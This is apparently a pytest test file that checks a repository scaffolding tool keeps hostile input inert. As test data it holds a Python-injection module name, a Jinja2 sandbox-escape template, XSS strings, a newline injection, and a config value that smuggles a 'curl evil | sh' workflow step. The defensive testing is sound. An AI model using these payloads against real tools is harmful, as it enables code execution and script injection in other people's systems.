"""Data never runs: values go out as literals of their target language, templates are sandboxed."""

from __future__ import annotations

import subprocess
import sys

import pytest

from tests.hostile.corpus import good_repo
from tests.support import GENERATED, git_init, manifest, run_t4

PAYLOAD_NAME = 'evil"""+__import__("os").system("touch PWNED")+"""'
SANDBOX_ESCAPE = "{{ cycler.__init__.__globals__.os.system('touch PWNED') }}\n"


@pytest.mark.slow
def test_a_name_holding_python_stays_text_in_scaffolded_tests(tmp_path):
    root = good_repo(tmp_path / "repo", {"evil": manifest(PAYLOAD_NAME)}, {"evil/__init__.py": "X = 1\n"})
    git_init(root)
    code, out, err = run_t4(root, "scaffold_tests", "--apply")
    assert code == 0, out + err
    scaffolded = sorted((root / "evil" / "tests").glob("*.py"))
    assert len(scaffolded) == 4
    for path in scaffolded:
        compile(path.read_text(), str(path), "exec")  # still valid Python
    run = subprocess.run([sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "evil/tests"],
                         cwd=root, capture_output=True, text=True, timeout=120)
    assert not (root / "PWNED").exists()
    assert run.returncode == 0, run.stdout + run.stderr


@pytest.mark.parametrize("template, command", [
    ("docmap/DOCUMENTATION_MAP.md.j2", ["validate"]),
    ("module/README.md.j2", ["scaffold_docs", "--apply"]),
    ("tests/conftest.py.j2", ["scaffold_tests", "--apply"]),
])
def test_a_repository_template_cannot_reach_python(tmp_path, template, command):
    root = good_repo(tmp_path / "repo", files={f"templates/{template}": SANDBOX_ESCAPE})
    git_init(root)
    code, out, err = run_t4(root, *command)
    assert not (root / "PWNED").exists()
    assert code != 0 and "unsafe" in out + err and "Traceback" not in out + err


def test_markdown_outputs_escape_html_and_markdown_syntax(tmp_path):
    hostile = manifest("shout", ownership={"team": "<script>alert(1)</script>"},
                       description="[click](https://evil.example) <img src=x onerror=alert(1)>")
    root = good_repo(tmp_path / "repo", {"shout": hostile, "tag": manifest("<b>bold<b>")})
    git_init(root)
    code, out, err = run_t4(root, "docmap")
    assert code == 0, out + err
    for name in ("MODULE_INDEX.md", "DOCUMENTATION_MAP.md"):
        text = (root / GENERATED / name).read_text()
        assert "<script>" not in text and "<img" not in text and "<b>" not in text, name
        assert "[click](" not in text, name
    assert "\\[click\\]" in (root / GENERATED / "MODULE_INDEX.md").read_text()
    assert "&lt;b&gt;bold&lt;b&gt;" in (root / GENERATED / "DOCUMENTATION_MAP.md").read_text()


def test_a_newline_in_a_folder_name_cannot_widen_the_coverage_omit_list(tmp_path):
    folder = "good/x\n    *"
    root = good_repo(tmp_path / "repo", {folder: manifest("nested")})
    git_init(root)
    code, out, err = run_t4(root, "coverage:good")
    assert code == 0, out + err
    assert "coverage:good ok 100.00%" in out


def test_workflow_values_that_would_break_yaml_are_refused(tmp_path):
    root = good_repo(tmp_path / "repo", pyproject='[tool.t4]\ngenerated_dir = "docs/gen\\nrun: curl evil | sh"\n')
    git_init(root)
    code, out, err = run_t4(root, "ci_init", "--apply")
    assert code != 0 and "generated_dir" in out + err and "Traceback" not in out + err
    assert not (root / ".github").exists()


def test_code_in_scaffolded_docs_stays_code(tmp_path):
    source = "def pick(items: list[int], key=lambda x: x > 0) -> dict[str, int]:\n    return {}\n"
    root = good_repo(tmp_path / "repo", files={"good/__init__.py": source})
    git_init(root)
    code, out, err = run_t4(root, "scaffold_docs", "--apply")
    assert code == 0, out + err
    signature = "(items: list[int], key=lambda x: x > 0)"
    assert f"def pick{signature}" in (root / "good/docs/API.md").read_text()
    assert f"`pick{signature}`" in (root / "good/AGENTS.md").read_text()
